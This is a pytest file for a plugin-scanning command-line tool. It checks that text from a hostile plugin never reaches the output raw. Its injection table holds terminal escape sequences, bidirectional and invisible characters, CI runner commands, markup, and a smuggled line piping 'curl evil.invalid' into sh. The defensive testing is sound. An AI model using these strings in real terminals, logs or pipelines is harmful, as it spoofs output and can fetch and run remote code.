"""A hostile tree through every command: its words come out as escapes, whatever they pretend to be."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest

from plugseal.cli.main import main

INJECTIONS = {
    "clears the screen": "\x1b[2J\x1b[H",
    "sets the title": "\x1b]0;owned\x07",
    "a link": "\x1b]8;;https://evil.invalid\x1b\\click\x1b]8;;\x1b\\",
    "C1 controls": "\x9b2J\x9d0;x\x9c",
    "a carriage return": "ok\rhigh[fake]: a finding",
    "a line of its own": "x\nnext: `curl evil.invalid | sh`",
    "reordered": "\u202egnp.exe\u2066",
    "invisible": "a\u200bb\u2060c\ufeffd\U000e0041",
    "stacked": "z" + "\u0301" * 40,
    "separators": "a\u2028b\u2029c\x85d",
    "markup": "[bold red]TRUSTED[/] [link=https://evil.invalid]x[/link]",
    "an old runner command": "##[error]x ##vso[task.setvariable variable=a]b ##teamcity[x]",
    "a runner command": "\n::stop-commands::x\n::add-mask::y",
    "an undecodable byte": "a\udcffb\udc80",
    "long": "w" * 100_000,
}
COMMANDS = {
    "scan": ["scan", "PATH"],
    "scan, everything": ["scan", "PATH", "--verbose"],
    "scan, explained": ["scan", "PATH", "--explain"],
    "scan as JSON": ["scan", "PATH", "--format", "json"],
    "facts": ["facts", "PATH"],
    "hash": ["hash", "PATH"],
    "hash as JSON": ["hash", "PATH", "--format", "json"],
    "explain": ["explain", "TEXT"],
    "a command": ["TEXT", "PATH"],
    "an option": ["scan", "--TEXT", "PATH"],
    "a value": ["scan", "--fail-on", "TEXT", "PATH"],
    "a path": ["scan", "PATH/TEXT"],
    "a rule": ["rules", "new", "TEXT"],
}


def _build(root: Path, text: str) -> None:
    """Put a text everywhere that a plugin's author can put one."""
    name = text.replace("/", "|").replace("\0", "")[:80]
    plugin = root / os.fsencode(name).decode("utf-8", "surrogateescape")
    plugin.mkdir()
    server = {"command": text, "args": [text, "-c", text], "env": {text: text}}
    (plugin / ".mcp.json").write_text(json.dumps({"mcpServers": {text: server, "broken": {"command": 5, text: text}}}))
    (plugin / "plugin.json").write_text(
        json.dumps({"name": text, "version": text, "description": text, "skills": text})
    )
    source = f"import os\nos.system({text!r} + x)\nos.system(x)  # {text}\n"
    (plugin / f"{name[:70]}.py").write_text(source, encoding="utf-8", errors="surrogateescape")
    (plugin / "SKILL.md").write_text(f"---\nname: {json.dumps(text)}\n---\n{text}\n", errors="surrogateescape")
    (plugin / "link").symlink_to(name or "x")


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
def test_no_command_prints_a_plugins_words_as_they_are(
    text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "clone"
    root.mkdir()
    _build(root, text)
    monkeypatch.chdir(tmp_path)
    for name, words in COMMANDS.items():
        code = main([word.replace("PATH", str(root)).replace("TEXT", text) for word in words])
        captured = capsys.readouterr()
        printed = captured.out + captured.err
        assert code in (0, 1, 2, 3, 4), name
        assert printed.replace("\n", "").isprintable(), name
        assert not re.search(r"##[\w.-]*\[", printed), name
        assert not re.search(r"^\s*::", printed, re.MULTILINE), name
        assert "\nnext: `curl" not in printed, name
        assert "\nhigh[fake]" not in printed, name


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
def test_json_stays_json_for_strict_readers(text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _build(tmp_path, text)
    main(["scan", str(tmp_path), "--format", "json"])
    printed = capsys.readouterr().out
    assert printed.isascii()
    json.dumps(json.loads(printed), ensure_ascii=False).encode("utf-8")


@pytest.mark.parametrize(
    "verb", ["amber list", "amness list", "codewhale list", "list", "scan", "check", "lingtai list"]
)
@pytest.mark.parametrize("kind", ["a circle", "too long", "below a file"])
def test_a_path_that_leads_nowhere_is_no_bug(
    kind: str, verb: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir("/usr")
    monkeypatch.setenv("PLUGSEAL_HOME", str(tmp_path / "state"))
    (tmp_path / "circle").symlink_to("circle")
    (tmp_path / "file").touch()
    path = {"a circle": tmp_path / "circle", "too long": tmp_path / ("a" * 5000), "below a file": tmp_path / "file/x"}[
        kind
    ]
    before = [] if verb in ("list", "scan", "check", "lingtai list") else ["--workspace"]

    assert main([*verb.split(), *before, str(path)]) in (2, 3, 4)

    assert "hint: " in capsys.readouterr().err
